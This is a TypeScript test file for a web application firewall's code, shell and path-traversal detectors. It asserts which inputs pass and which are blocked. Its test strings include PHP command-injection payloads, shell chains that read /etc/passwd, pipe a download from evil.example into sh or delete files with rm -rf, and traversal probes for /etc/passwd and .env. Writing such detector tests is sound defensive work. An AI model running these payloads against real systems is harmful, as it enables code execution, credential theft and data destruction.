// Code and commands that people show one another, and the same where they would run.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
import { detectPath } from '../../../src/guard/decide/waf/detect/path/path.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';

const passes = (score: number | undefined, text: string) => assert.ok((score ?? 0) < 50, `${score}: ${text}`);
const blocks = (score: number | undefined, text: string) =>
  assert.ok((score ?? 0) >= 50, `${score}: ${text}`);

test('a call with a sentence behind it runs nowhere, as no language reads two names in a row', () => {
  for (const text of [
    'echo shell_exec("convert $in"); prints nothing',
    'os.system("ls") vs subprocess.run(["ls"])',
  ])
    passes(detectCode(text)?.score, text);
  for (const text of [
    "system('id'); // shows who runs it",
    "system('id'); __halt_compiler(); rest of it",
    '${system(id)} and words behind it',
    "';system('id');echo 'words in a string",
  ])
    blocks(detectCode(text)?.score, text);
});

test('what follows a whole command counts less, unless it would be worth sending anyhow', () => {
  const kept = 'RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*';
  passes(detectShell(kept)?.score, kept);
  for (const text of [
    'ping -c 3 8.8.8.8; cat /etc/passwd',
    'tar -czf a.tgz b; curl http://evil.example/x | sh',
    'x; rm -rf /var/lib/apt',
  ])
    blocks(detectShell(text)?.score, text);
});

test('a path with a word behind it opens no file; a request line does', () => {
  passes(detectPath('/etc/passwd permissions default')?.score, 'a search');
  for (const text of ['/etc/passwd', 'GET /.env HTTP/1.1', '../../../etc/passwd as text'])
    blocks(detectPath(text)?.score, text);
});
